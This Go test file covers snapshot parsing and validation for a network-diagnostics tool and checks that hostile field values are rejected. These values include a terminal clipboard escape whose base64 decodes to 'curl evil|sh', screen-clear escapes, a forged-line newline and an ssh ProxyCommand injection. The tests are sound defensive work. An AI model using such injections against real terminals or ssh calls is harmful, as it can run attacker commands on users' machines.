package document

import (
	"bytes"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/wgperf/wgperf/internal/facts"
	"github.com/wgperf/wgperf/internal/target/targettest"
)

func TestSnapshotRoundTrip(t *testing.T) {
	in := &facts.Snapshot{
		SchemaVersion: facts.SchemaVersion, Host: targettest.Spec("ssh:root@golem"),
		CollectedAt: time.Date(2026, 4, 7, 19, 56, 0, 0, time.UTC),
		System:      facts.System{Hostname: "golem", Kernel: "5.15.150", Distro: "OpenWrt 23.05.2", CPUs: 4},
		Routes:      []facts.Route{{Family: "inet", Table: "main", Dst: "46.38.233.77", Gateway: "192.168.253.254", Dev: "br-lan.253", Protocol: "static", Metric: 20}},
		Sysctls:     map[string]string{"net.core.rmem_max": "212992"},
		Conntrack:   &facts.Conntrack{Count: 10, Max: 100},
	}
	var buf bytes.Buffer
	if err := WriteSnapshot(&buf, in); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "\n  \"host\": \"ssh:root@golem\"") {
		t.Errorf("not indented JSON:\n%s", buf.String())
	}
	out, err := ReadSnapshot(&buf)
	if err != nil {
		t.Fatal(err)
	}
	// Lists the snapshot did not have come back empty ([] in the file).
	if d := cmp.Diff(in, out, cmpopts.EquateEmpty()); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
}

func TestReadSnapshotErrors(t *testing.T) {
	tests := []struct{ name, in, wantErr string }{
		{"empty", "", "empty input"},
		{"malformed", `{"schema_version": 1,`, "malformed JSON"},
		{"not json", "hello", "malformed JSON"},
		{"wrong type", `{"schema_version": "one"}`, `field "schema_version"`},
		{"no schema", `{"host": "local"}`, "no schema_version"},
		{"newer schema", `{"schema_version": 99, "host": "local"}`, "schema_version 99 is newer"},
		{"no host", `{"schema_version": 1}`, "no host"},
		// Issue 30 item 8: every field is validated, not only the host.
		{"OSC 52 in the hostname", `{"schema_version": 1, "host": "local", "system": {"hostname": "gw\u001b]52;c;Y3VybCBldmlsfHNo\u0007"}}`,
			`snapshot: system.hostname "gw\x1b]52;c;Y3VybCBldmlsfHNo\a": control characters`},
		{"screen clear in a link", `{"schema_version": 1, "host": "local", "links": [{"name": "eth0"}, {"name": "wg0\u001b[2J\u001b[H"}]}`,
			"snapshot: links[1].name"},
		{"newline in a sysctl", `{"schema_version": 1, "host": "local", "sysctls": {"net.core.rmem_max": "212992\n1. [x] forged"}}`,
			`snapshot: sysctls["net.core.rmem_max"]`},
		{"C1 in a uci key", `{"schema_version": 1, "host": "local", "openwrt": {"network": {"network.wg\u009b2J.proto": "wireguard"}}}`,
			"snapshot: openwrt.network: key"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ReadSnapshot(strings.NewReader(tt.in))
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) || strings.Contains(err.Error(), "\n") {
				t.Fatalf("err = %v, want one line containing %q", err, tt.wantErr)
			}
		})
	}
}

// TestReadSnapshotLimits is hole 7 (and 3 for snapshots): input over 64 MiB is
// refused with one line before it is parsed, and a host field that is not a
// target wgperf would accept (an ssh option) is refused.
func TestReadSnapshotLimits(t *testing.T) {
	valid := `{"schema_version": 1, "host": "ssh:root@golem"}`
	if _, err := ReadSnapshot(strings.NewReader(valid)); err != nil {
		t.Fatalf("valid snapshot: %v", err)
	}
	// mwan3 status is text of several lines; tabs are fine anywhere (sysctl prints them).
	lines := `{"schema_version": 1, "host": "local", "sysctls": {"net.ipv4.tcp_rmem": "4096\t131072\t6291456"},
	  "openwrt": {"network": {}, "mwan3_status": "Interface status:\n interface wan is online"}}`
	if _, err := ReadSnapshot(strings.NewReader(lines)); err != nil {
		t.Errorf("snapshot with mwan3 status lines and tabs: %v", err)
	}
	big := io.MultiReader(io.LimitReader(spaces{}, MaxBytes), strings.NewReader(valid))
	_, err := ReadSnapshot(big)
	if err == nil || err.Error() != "snapshot: larger than 64 MiB, refusing it" {
		t.Errorf("65 MiB snapshot: err = %v", err)
	}
	for _, host := range []string{"ssh:-oProxyCommand=touch /tmp/x", "ssh:root@-x", "telnet:golem"} {
		in := `{"schema_version": 1, "host": ` + strconv.Quote(host) + `}`
		if _, err := ReadSnapshot(strings.NewReader(in)); err == nil {
			t.Errorf("snapshot with host %q accepted", host)
		}
	}
}

type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// An empty list is written as [], an empty map as {}, never null, and
// writing leaves the snapshot as it was.
func TestWriteSnapshotEmptyLists(t *testing.T) {
	in := &facts.Snapshot{SchemaVersion: facts.SchemaVersion, Host: targettest.Spec("local"),
		WireGuard: []facts.WGInterface{{Name: "wg0", Peers: []facts.WGPeer{{PublicKey: "k"}}}},
		Links:     []facts.Link{{Name: "bond0", Bond: &facts.Bond{Mode: "802.3ad"}}},
		IRQs:      []facts.IRQ{{IRQ: "24", Name: "eth0"}},
		OpenWrt:   &facts.OpenWrt{}}
	var out bytes.Buffer
	if err := WriteSnapshot(&out, in); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(out.String(), "null"); n != 1 { // conntrack: not loaded
		t.Errorf("%d nulls:\n%s", n, out.String())
	}
	if in.Routes != nil || in.WireGuard[0].Peers[0].AllowedIPs != nil || in.Links[0].Bond.Slaves != nil || in.OpenWrt.Network != nil {
		t.Errorf("WriteSnapshot changed its input: %+v", in)
	}
}
